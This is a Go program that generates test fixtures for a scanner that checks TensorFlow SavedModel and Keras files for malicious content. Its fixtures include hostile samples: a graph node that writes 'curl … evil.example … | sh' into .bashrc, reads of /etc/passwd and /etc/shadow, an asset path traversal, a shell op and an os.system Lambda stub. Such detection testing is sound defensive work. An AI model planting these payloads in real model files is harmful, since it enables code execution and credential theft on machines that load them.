//go:build ignore

// Command tensorflow_fixtures writes the TensorFlow scanner's fixtures into
// scanner/tensorflow/testdata/. TensorFlow cannot be installed here, so the
// files are built with the scanner's own protobuf types
// (scanner/tensorflow/tfpb) after the graphs TensorFlow writes: a TF1
// graph with its save/ saver subgraph and a TF2 SavedModel whose saver
// lives in __inference__traced_save/_restore functions. Run from the
// repository root:
//
//	go run testdata/gen/tensorflow_fixtures.go
//
// The output is deterministic. Expected rule IDs per fixture are in
// scanner/tensorflow/tensorflow_test.go.
package main

import (
	"encoding/base64"
	"encoding/json"
	"log"
	"os"
	"path/filepath"

	"google.golang.org/protobuf/proto"

	"github.com/modelgate/modelgate/scanner/tensorflow/tfpb"
)

const out = "scanner/tensorflow/testdata"

// TensorFlow DataType values.
const (
	dtFloat  = 1
	dtInt32  = 3
	dtString = 7
	dtRes    = 20
)

func node(name, op string, inputs ...string) *tfpb.NodeDef {
	return &tfpb.NodeDef{Name: proto.String(name), Op: proto.String(op), Input: inputs, Attr: map[string]*tfpb.AttrValue{}}
}

func with(n *tfpb.NodeDef, key string, v *tfpb.AttrValue) *tfpb.NodeDef {
	n.Attr[key] = v
	return n
}

func typ(t int32) *tfpb.AttrValue  { return &tfpb.AttrValue{Type: proto.Int32(t)} }
func str(s string) *tfpb.AttrValue { return &tfpb.AttrValue{S: []byte(s)} }
func fn(name string) *tfpb.AttrValue {
	return &tfpb.AttrValue{Func: &tfpb.NameAttrList{Name: proto.String(name)}}
}

func constStrings(name string, vals ...string) *tfpb.NodeDef {
	t := &tfpb.TensorProto{Dtype: proto.Int32(dtString)}
	for _, v := range vals {
		t.StringVal = append(t.StringVal, []byte(v))
	}
	return with(with(node(name, "Const"), "dtype", typ(dtString)), "value", &tfpb.AttrValue{Tensor: t})
}

func constFloats(name string, n int) *tfpb.NodeDef {
	content := make([]byte, 4*n)
	for i := range content {
		content[i] = byte(i * 7)
	}
	t := &tfpb.TensorProto{Dtype: proto.Int32(dtFloat), TensorContent: content}
	return with(with(node(name, "Const"), "dtype", typ(dtFloat)), "value", &tfpb.AttrValue{Tensor: t})
}

func constInt(name string) *tfpb.NodeDef {
	return with(with(node(name, "Const"), "dtype", typ(dtInt32)), "value", &tfpb.AttrValue{Tensor: &tfpb.TensorProto{Dtype: proto.Int32(dtInt32)}})
}

func function(name string, nodes ...*tfpb.NodeDef) *tfpb.FunctionDef {
	return &tfpb.FunctionDef{Signature: &tfpb.OpDef{Name: proto.String(name)}, NodeDef: nodes}
}

func savedModel(tags string, g *tfpb.GraphDef, sd *tfpb.SaverDef) *tfpb.SavedModel {
	return &tfpb.SavedModel{
		SavedModelSchemaVersion: proto.Int64(1),
		MetaGraphs: []*tfpb.MetaGraphDef{{
			MetaInfoDef: &tfpb.MetaGraphDef_MetaInfoDef{Tags: []string{tags}, TensorflowVersion: proto.String("2.15.0"), TensorflowGitVersion: proto.String("v2.15.0-0-g6887368d6d4")},
			GraphDef:    g,
			SaverDef:    sd,
		}},
	}
}

// tf1 is a TF1 graph (tf.compat.v1 SavedModelBuilder): a dense layer on
// VariableV2 variables, and the sharded V2 saver under save/.
func tf1(extra ...*tfpb.NodeDef) (*tfpb.GraphDef, *tfpb.SaverDef) {
	nodes := []*tfpb.NodeDef{
		with(with(node("x", "Placeholder"), "dtype", typ(dtFloat)), "shape", &tfpb.AttrValue{}),
		with(node("w", "VariableV2"), "dtype", typ(dtFloat)),
		constFloats("w/Initializer/Const", 32),
		node("w/Assign", "Assign", "w", "w/Initializer/Const"),
		node("w/read", "Identity", "w"),
		with(node("b", "VariableV2"), "dtype", typ(dtFloat)),
		constFloats("b/Initializer/zeros", 8),
		node("b/Assign", "Assign", "b", "b/Initializer/zeros"),
		node("b/read", "Identity", "b"),
		node("MatMul", "MatMul", "x", "w/read"),
		node("BiasAdd", "BiasAdd", "MatMul", "b/read"),
		node("Relu", "Relu", "BiasAdd"),
		node("y", "Identity", "Relu"),
		node("init", "NoOp", "^w/Assign", "^b/Assign"),
		// The saver, as tf.compat.v1.train.Saver(sharded=True) writes it.
		constStrings("save/filename/input", "model"),
		node("save/filename", "PlaceholderWithDefault", "save/filename/input"),
		node("save/Const", "PlaceholderWithDefault", "save/filename"),
		constStrings("save/StringJoin/inputs_1", "_temp_6a1b2c3d4e5f/part"),
		node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1"),
		constInt("save/num_shards"),
		constInt("save/ShardedFilename/shard"),
		node("save/ShardedFilename", "ShardedFilename", "save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"),
		constStrings("save/SaveV2/tensor_names", "b", "w"),
		constStrings("save/SaveV2/shape_and_slices", "", ""),
		node("save/SaveV2", "SaveV2", "save/ShardedFilename", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "b", "w"),
		node("save/control_dependency", "Identity", "save/ShardedFilename", "^save/SaveV2"),
		node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", "save/ShardedFilename", "^save/control_dependency"),
		node("save/MergeV2Checkpoints", "MergeV2Checkpoints", "save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"),
		node("save/Identity", "Identity", "save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency"),
		constStrings("save/RestoreV2/tensor_names", "b", "w"),
		constStrings("save/RestoreV2/shape_and_slices", "", ""),
		node("save/RestoreV2", "RestoreV2", "save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"),
		node("save/Assign", "Assign", "b", "save/RestoreV2"),
		node("save/Assign_1", "Assign", "w", "save/RestoreV2:1"),
		node("save/restore_shard", "NoOp", "^save/Assign", "^save/Assign_1"),
		node("save/restore_all", "NoOp", "^save/restore_shard"),
	}
	sd := &tfpb.SaverDef{
		FilenameTensorName: proto.String("save/Const:0"),
		SaveTensorName:     proto.String("save/Identity:0"),
		RestoreOpName:      proto.String("save/restore_all"),
		MaxToKeep:          proto.Int32(5),
		Sharded:            proto.Bool(true),
		Version:            proto.Int32(2),
	}
	return &tfpb.GraphDef{Node: append(nodes, extra...)}, sd
}

// tf2 is a TF2 SavedModel (tf.saved_model.save of a Keras Dense model):
// the graph holds resource variables and calls; the computation and the
// saver live in library functions. serving adds nodes to the model's
// forward function.
func tf2(serving ...*tfpb.NodeDef) (*tfpb.GraphDef, *tfpb.SaverDef) {
	graph := []*tfpb.NodeDef{
		with(with(node("dense/kernel", "VarHandleOp"), "dtype", typ(dtFloat)), "shared_name", str("dense/kernel")),
		node("dense/kernel/Read/ReadVariableOp", "ReadVariableOp", "dense/kernel"),
		with(with(node("dense/bias", "VarHandleOp"), "dtype", typ(dtFloat)), "shared_name", str("dense/bias")),
		node("dense/bias/Read/ReadVariableOp", "ReadVariableOp", "dense/bias"),
		node("NoOp", "NoOp"),
		constStrings("Const", "\n\x0e\n\x05\x08\x01\x12\x01_\n\x05\x08\x02\x12\x01d"),
		with(node("serving_default_input_1", "Placeholder"), "dtype", typ(dtFloat)),
		with(node("StatefulPartitionedCall", "StatefulPartitionedCall", "serving_default_input_1", "dense/kernel", "dense/bias"),
			"f", fn("__inference_signature_wrapper_120")),
		with(node("saver_filename", "Placeholder"), "dtype", typ(dtString)),
		with(node("StatefulPartitionedCall_1", "StatefulPartitionedCall", "saver_filename",
			"dense/kernel/Read/ReadVariableOp", "dense/bias/Read/ReadVariableOp", "Const"),
			"f", fn("__inference__traced_save_180")),
		with(node("StatefulPartitionedCall_2", "StatefulPartitionedCall", "saver_filename", "dense/kernel", "dense/bias"),
			"f", fn("__inference__traced_restore_196")),
	}
	forward := append([]*tfpb.NodeDef{
		node("model/dense/MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource"),
		node("model/dense/MatMul", "MatMul", "input_1", "model/dense/MatMul/ReadVariableOp:value:0"),
		node("model/dense/BiasAdd/ReadVariableOp", "ReadVariableOp", "biasadd_readvariableop_resource"),
		node("model/dense/BiasAdd", "BiasAdd", "model/dense/MatMul:product:0", "model/dense/BiasAdd/ReadVariableOp:value:0"),
		node("model/dense/Relu", "Relu", "model/dense/BiasAdd:output:0"),
		node("Identity", "Identity", "model/dense/Relu:activations:0"),
		node("NoOp", "NoOp", "^model/dense/BiasAdd/ReadVariableOp", "^model/dense/MatMul/ReadVariableOp"),
	}, serving...)
	lib := &tfpb.FunctionDefLibrary{Function: []*tfpb.FunctionDef{
		function("__inference_signature_wrapper_120",
			with(node("StatefulPartitionedCall", "StatefulPartitionedCall", "input_1", "unknown", "unknown_0"),
				"f", fn("__inference__wrapped_model_95")),
			node("Identity", "Identity", "StatefulPartitionedCall:output:0"),
		),
		function("__inference__wrapped_model_95", forward...),
		function("__inference__traced_save_180",
			with(node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix"), "pattern", str("^s3://.*")),
			constStrings("Const", ".part"),
			constStrings("Const_1", "_temp/part"),
			node("Select", "Select", "StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"),
			node("StringJoin", "StringJoin", "file_prefix", "Select:output:0"),
			constInt("num_shards"),
			constInt("ShardedFilename/shard"),
			node("ShardedFilename", "ShardedFilename", "StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"),
			constStrings("SaveV2/tensor_names", "variables/0/.ATTRIBUTES/VARIABLE_VALUE", "variables/1/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
			constStrings("SaveV2/shape_and_slices", "", "", ""),
			node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0",
				"savev2_dense_kernel_read_readvariableop", "savev2_dense_bias_read_readvariableop", "savev2_const"),
			node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", "ShardedFilename:filename:0", "^SaveV2"),
			node("MergeV2Checkpoints", "MergeV2Checkpoints", "MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"),
			node("Identity", "Identity", "file_prefix", "^MergeV2Checkpoints"),
			node("Identity_1", "Identity", "Identity:output:0", "^NoOp"),
			node("NoOp", "NoOp", "^MergeV2Checkpoints"),
		),
		function("__inference__traced_restore_196",
			constStrings("RestoreV2/tensor_names", "variables/0/.ATTRIBUTES/VARIABLE_VALUE", "variables/1/.ATTRIBUTES/VARIABLE_VALUE"),
			constStrings("RestoreV2/shape_and_slices", "", ""),
			node("RestoreV2", "RestoreV2", "file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"),
			node("Identity", "Identity", "RestoreV2:tensors:0"),
			node("AssignVariableOp", "AssignVariableOp", "assignvariableop_dense_kernel", "Identity:output:0"),
			node("Identity_1", "Identity", "RestoreV2:tensors:1"),
			node("AssignVariableOp_1", "AssignVariableOp", "assignvariableop_1_dense_bias", "Identity_1:output:0"),
			node("NoOp_1", "NoOp", "^AssignVariableOp", "^AssignVariableOp_1"),
			node("Identity_2", "Identity", "file_prefix", "^NoOp_1"),
		),
	}}
	sd := &tfpb.SaverDef{
		FilenameTensorName: proto.String("saver_filename:0"),
		SaveTensorName:     proto.String("StatefulPartitionedCall_1:0"),
		RestoreOpName:      proto.String("StatefulPartitionedCall_2"),
		Version:            proto.Int32(2),
	}
	return &tfpb.GraphDef{Node: graph, Library: lib}, sd
}

func marshal(m proto.Message) []byte {
	data, err := proto.MarshalOptions{Deterministic: true}.Marshal(m)
	if err != nil {
		log.Fatal(err)
	}
	return data
}

func write(dir, name string, data []byte) {
	d := filepath.Join(out, dir)
	if err := os.MkdirAll(d, 0o755); err != nil {
		log.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(d, name), data, 0o644); err != nil {
		log.Fatal(err)
	}
}

func writeModel(dir string, g *tfpb.GraphDef, sd *tfpb.SaverDef) []byte {
	data := marshal(savedModel("serve", g, sd))
	write(dir, "saved_model.pb", data)
	return data
}

// lambdaCode stands in for base64(marshal.dumps(code)) as func_dump writes
// it: a marshalled code object (type byte 0xe3) naming os.system. It is
// never run; the scanner only needs it to decode as a code object.
func lambdaCode() string {
	b := []byte{0xe3, 0x01, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x03, 0, 0, 0, 0x03, 0, 0, 0, 0xf3}
	b = append(b, "\x00\x00\x00t\x00d\x01\x83\x01\xa0\x01d\x02\xa1\x01S\x00)\x03N\xda\x02os\xda\x06system\xa9\x00"...)
	enc := base64.StdEncoding.EncodeToString(b)
	return enc + "\n"
}

type obj = map[string]any

func kerasMetadata(layers []obj) []byte {
	md := &tfpb.SavedMetadata{}
	model := obj{
		"name": "model", "trainable": true, "expects_training_arg": true, "dtype": "float32",
		"batch_input_shape": nil, "must_restore_from_config": false, "class_name": "Functional",
		"config":           obj{"name": "model", "layers": layers, "input_layers": []any{[]any{"input_1", 0, 0}}},
		"is_graph_network": true, "keras_version": "2.15.0", "backend": "tensorflow",
	}
	add := func(id int32, path, ident string, v obj) {
		raw, err := json.Marshal(v)
		if err != nil {
			log.Fatal(err)
		}
		md.Nodes = append(md.Nodes, &tfpb.SavedObject{
			NodeId: proto.Int32(id), NodePath: proto.String(path), Identifier: proto.String(ident), Metadata: proto.String(string(raw)),
		})
	}
	add(0, "root", "_tf_keras_network", model)
	for i, l := range layers {
		add(int32(i+1), "root.layer-"+string(rune('0'+i)), "_tf_keras_layer", l)
	}
	return marshal(md)
}

func dense(name string) obj {
	return obj{"class_name": "Dense", "name": name, "config": obj{"name": name, "units": 8, "activation": "relu", "use_bias": true}}
}

func tfOpLambda() obj {
	return obj{"class_name": "TFOpLambda", "name": "tf.math.add", "config": obj{
		"name": "tf.math.add", "trainable": true, "dtype": "float32", "function": "math.add",
	}}
}

func lambdaLayer(config obj) obj {
	config["name"] = "lambda"
	config["trainable"] = true
	config["dtype"] = "float32"
	config["output_shape"] = nil
	config["output_shape_type"] = "raw"
	config["output_shape_module"] = nil
	config["arguments"] = obj{}
	return obj{"class_name": "Lambda", "name": "lambda", "config": config}
}

func main() {
	g, sd := tf1()
	benign1 := writeModel("tf1-benign", g, sd)
	g, sd = tf2()
	writeModel("tf2-benign", g, sd)
	write("tf2-benign", "fingerprint.pb", marshal(&tfpb.FingerprintDef{
		SavedModelChecksum: proto.Uint64(0x1234567890abcdef), GraphDefProgramHash: proto.Uint64(42),
		SignatureDefHash: proto.Uint64(7), SavedObjectGraphHash: proto.Uint64(9), CheckpointHash: proto.Uint64(11),
	}))
	write("tf2-benign", "keras_metadata.pb", kerasMetadata([]obj{dense("dense"), tfOpLambda()}))

	g, sd = tf1(with(node("PyFunc", "PyFunc", "y"), "token", str("pyfunc_0")))
	writeModel("tf1-pyfunc", g, sd)

	g, sd = tf2(
		constStrings("ReadFile/filename", "/etc/passwd"),
		node("ReadFile", "ReadFile", "ReadFile/filename:output:0"),
	)
	writeModel("tf2-readfile-in-function", g, sd)

	g, sd = tf1(
		constStrings("WriteFile/filename", "/home/user/.bashrc"),
		constStrings("WriteFile/contents", "curl -s http://evil.example/x | sh\n"),
		node("WriteFile", "WriteFile", "WriteFile/filename", "WriteFile/contents"),
	)
	writeModel("tf1-writefile", g, sd)

	g, sd = tf2(
		constStrings("exfil/prefix", "/tmp/exfil"),
		constStrings("exfil/names", "input"),
		constStrings("exfil/slices", ""),
		node("exfil/SaveV2", "SaveV2", "exfil/prefix:output:0", "exfil/names:output:0", "exfil/slices:output:0", "input_1"),
	)
	writeModel("tf2-savev2-outside-saver", g, sd)

	// A TF1 saver whose restore reads a constant absolute path.
	g, sd = tf1()
	for _, n := range g.Node {
		if n.GetName() == "save/RestoreV2" {
			n.Input[0] = "save/evil_path"
		}
	}
	g.Node = append(g.Node, constStrings("save/evil_path", "/etc/shadow"))
	writeModel("tf1-saver-constant-path", g, sd)

	g, sd = tf2(with(node("PrintV2", "PrintV2", "model/dense/Relu:activations:0"), "output_stream", str("file:///tmp/.cache/log")))
	writeModel("tf2-printv2-file", g, sd)

	g, sd = tf1(with(node("run", "ShellExecute", "x"), "command", str("id")))
	writeModel("tf1-shell-op", g, sd)

	// Vocabulary tables: TF1 keeps the export-time asset path in a Const
	// that the loader feeds with assets/<filename> (asset_file_def).
	vocab := func(dir, constPath, assetName string, asset bool) {
		g, sd := tf1(
			constStrings("asset_path", constPath),
			node("hash_table", "HashTableV2"),
			node("hash_table/table_init", "InitializeTableFromTextFileV2", "hash_table", "asset_path"),
		)
		sm := savedModel("serve", g, sd)
		if asset {
			sm.MetaGraphs[0].AssetFileDef = []*tfpb.AssetFileDef{{
				TensorInfo: &tfpb.AssetFileDef_TensorInfo{Name: proto.String("asset_path:0")},
				Filename:   proto.String(assetName),
			}}
		}
		write(dir, "saved_model.pb", marshal(sm))
	}
	vocab("tf1-vocab-asset", "/home/builder/export/vocab.txt", "vocab.txt", true)
	vocab("tf1-asset-traversal", "/home/builder/export/vocab.txt", "../../../../etc/passwd", true)
	vocab("tf1-table-constant-path", "/etc/passwd", "", false)

	write("keras-lambda", "keras_metadata.pb", kerasMetadata([]obj{dense("dense"), lambdaLayer(obj{
		"function": []any{lambdaCode(), nil, nil}, "function_type": "lambda", "module": "__main__",
	})}))
	write("keras-lambda-ref", "keras_metadata.pb", kerasMetadata([]obj{dense("dense"), lambdaLayer(obj{
		"function": "system", "function_type": "function", "module": "os",
	})}))
	bad := kerasMetadata([]obj{dense("dense")})
	md := &tfpb.SavedMetadata{}
	if err := proto.Unmarshal(bad, md); err != nil {
		log.Fatal(err)
	}
	md.Nodes[1].Metadata = proto.String(`{"class_name": "Dense", "config": {"name": "dense",`)
	write("keras-bad-json", "keras_metadata.pb", marshal(md))

	write("truncated", "saved_model.pb", benign1[:len(benign1)*2/3])
	write("no-meta-graph", "saved_model.pb", marshal(&tfpb.SavedModel{SavedModelSchemaVersion: proto.Int64(1)}))
	write("not-protobuf", "saved_model.pb", []byte("saved_model.pb is not here; see the README\n"))
}
